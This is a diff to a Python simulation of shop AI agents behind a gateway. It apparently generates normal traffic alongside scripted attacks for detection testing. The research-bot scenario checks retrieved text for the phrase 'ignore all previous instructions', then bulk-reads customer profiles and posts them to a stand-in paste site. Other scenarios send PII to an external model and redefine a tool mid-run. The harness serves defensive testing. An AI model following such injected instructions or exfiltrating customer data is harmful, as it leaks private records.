@@ -19,8 +19,9 @@ data), ``crm-sync`` (customer profiles summarised by the in-cluster model),
   its description; ``travel-helper`` calls it from the start;
 * ``rug-pull``: the shop server redefines ``currency_rates`` mid-run; every call of
   the new definition, by any agent, is a call of the attack;
-* ``injected-document``: ``research-bot`` retrieves the tampered help article and
-  follows it: it reads customer profiles in bulk and posts them to a paste site;
+* ``injected-document``: ``research-bot`` retrieves the tampered help article, hands
+  it to the model as a tool result, and follows it: it reads customer profiles in
+  bulk and posts them to a paste site;
 * ``pii-to-external-model``: ``crm-sync`` starts sending the profiles it read to
   the external model API;
 * ``model-extraction``: ``eval-harness`` sends a stream of systematic probes to
@@ -37,7 +38,7 @@ import asyncio
 import json
 import random
 import time
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Mapping, Sequence
 from pathlib import Path
 from dataclasses import dataclass, field
 from typing import Any
@@ -187,15 +188,21 @@ class _Agent:
                 self.env.errors[type(exc).__name__] += 1
         return texts
 
-    async def model(self, host: str, prompt: str) -> None:
-        """One chat completion on the model API at ``host``."""
+    async def model(self, host: str, prompt: str, results: Sequence[tuple[str, str]] = ()) -> None:
+        """One chat completion on the model API at ``host``: the user's ask, then the tool calls the agent made and what
+        they returned (``results``: (tool, text)), as tool messages, the way a tool-calling agent hands results back."""
         import openai
 
+        messages: list[dict[str, Any]] = [{"role": "system", "content": "You are the shop's assistant. Answer briefly."},
+                                          {"role": "user", "content": prompt}]
+        if results:
+            calls = [{"id": f"call_{i}", "type": "function", "function": {"name": name, "arguments": "{}"}} for i, (name, _) in enumerate(results)]
+            messages.append({"role": "assistant", "content": None, "tool_calls": calls})
+            messages += [{"role": "tool", "tool_call_id": f"call_{i}", "content": text} for i, (_, text) in enumerate(results)]
         async with _http(self.env.envoy, self.workload, host, None, self._hook) as http:
             client = openai.AsyncOpenAI(base_url=f"{self.env.envoy}/v1", api_key="demo-key", http_client=http, max_retries=0)
             try:
-                await client.chat.completions.create(model="shop-assistant-1", messages=[
-                    {"role": "system", "content": "You are the shop's assistant. Answer briefly."}, {"role": "user", "content": prompt}])
+                await client.chat.completions.create(model="shop-assistant-1", messages=messages)  # type: ignore[arg-type]
             except Exception as exc:  # noqa: BLE001 - a denied call raises in the client; the hook counted it
                 self.env.errors[type(exc).__name__] += 1
 
@@ -236,7 +243,7 @@ async def _support(env: _Env, until: float) -> None:
         order = env.rng.choice(env.orders)
         texts = await agent.tools(SHOP, [("search_knowledge_base", {"topic": env.rng.choice(topics)}),
                                          ("get_order", {"order_id": int(order)})])
-        await agent.model(MODEL_IN, "Draft a short answer to the customer using: " + " ".join(texts)[:600])
+        await agent.model(MODEL_IN, "Draft a short answer to the customer.", list(zip(("search_knowledge_base", "get_order"), texts)))
     await _every(env, 1.5, until, task)
 
 
@@ -245,7 +252,7 @@ async def _orders(env: _Env, until: float) -> None:
         agent = _Agent(env, "agents/order-assistant", env.rng.choice(env.users))
         calls: list[tuple[str, dict[str, Any]]] = [("get_order", {"order_id": int(env.rng.choice(env.orders))}), ("currency_rates", {"currency": env.rng.choice(("usd", "gbp", "chf"))})]
         texts = await agent.tools(SHOP, calls)
-        await agent.model(MODEL_IN, "Tell the customer the order status and the price in their currency: " + " ".join(texts)[:400])
+        await agent.model(MODEL_IN, "Tell the customer the order status and the price in their currency.", list(zip(("get_order", "currency_rates"), texts)))
     await _every(env, 2.5, until, task)
 
 
@@ -282,7 +289,7 @@ async def _crm(env: _Env, until: float) -> None:
         ids = env.rng.sample(env.profiles, 3)
         texts = await agent.tools(SHOP, [("customer_profile", {"customer_id": int(i)}) for i in ids])
         host = MODEL_OUT if time.time() >= attack_at else MODEL_IN
-        await agent.model(host, "Summarise these customer records for the CRM: " + " ".join(texts)[:1500])
+        await agent.model(host, "Summarise these customer records for the CRM.", [("customer_profile", t) for t in texts])
     await _every(env, 2.0, until, task)
 
 
@@ -305,6 +312,7 @@ async def _research(env: _Env, until: float) -> None:
         if not any("ignore all previous instructions" in t.lower() for t in texts):
             return
         hijacked_at[:] = [time.time()]
+        await agent.model(MODEL_IN, "Answer the customer's question about refunds.", [("search_knowledge_base", texts[0])])
         ids = env.rng.sample(env.profiles, 6)
         stolen = await agent.tools(SHOP, [("customer_profile", {"customer_id": int(i)}) for i in ids])
         await agent.post("paste.example.net", "/api/pastes", {"content": " ".join(stolen)[:4000]})
